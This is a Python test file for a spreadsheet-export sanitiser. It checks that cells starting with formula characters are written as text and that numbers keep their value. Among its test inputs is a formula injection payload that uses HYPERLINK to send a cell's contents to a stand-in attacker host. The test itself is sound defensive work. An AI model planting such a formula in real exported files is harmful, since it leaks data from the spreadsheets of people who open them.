"""Cells a spreadsheet would run as a formula are written as text; numbers stay numbers."""

from decimal import Decimal

import pytest
from hypothesis import given
from hypothesis import strategies as st

from yiwang.core.spreadsheet import FORMULA_STARTS, spreadsheet_cell, spreadsheet_row


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://evil.example/?"&A2,"click")',
        "+1+1",
        "-2+3",
        "@SUM(A1:A3)",
        "\t=1+1",
        "\r=1+1",
        "=",
        "-",
        "+86 138 0000 0001",
    ],
)
def test_text_that_would_run_as_a_formula_is_written_as_text(text):
    assert spreadsheet_cell(text) == "'" + text


@pytest.mark.parametrize(
    "value", ["-12.5", "+3", "-0", "-.5", "1e5", "-2E-3", -7, 3.5, Decimal("-1.20"), None]
)
def test_numbers_stay_numbers(value):
    assert spreadsheet_cell(value) == value


def test_plain_text_is_unchanged():
    assert spreadsheet_row(["解放碑", "a=b", "", 0]) == ["解放碑", "a=b", "", 0]


@given(st.text())
def test_no_written_cell_starts_a_formula_unless_it_is_a_number(text):
    cell = spreadsheet_cell(text)
    if cell.startswith(FORMULA_STARTS):
        float(cell)  # only a plain number may keep a leading sign
    assert cell in (text, "'" + text)  # the text itself, or marked as text (it may start with ' already)
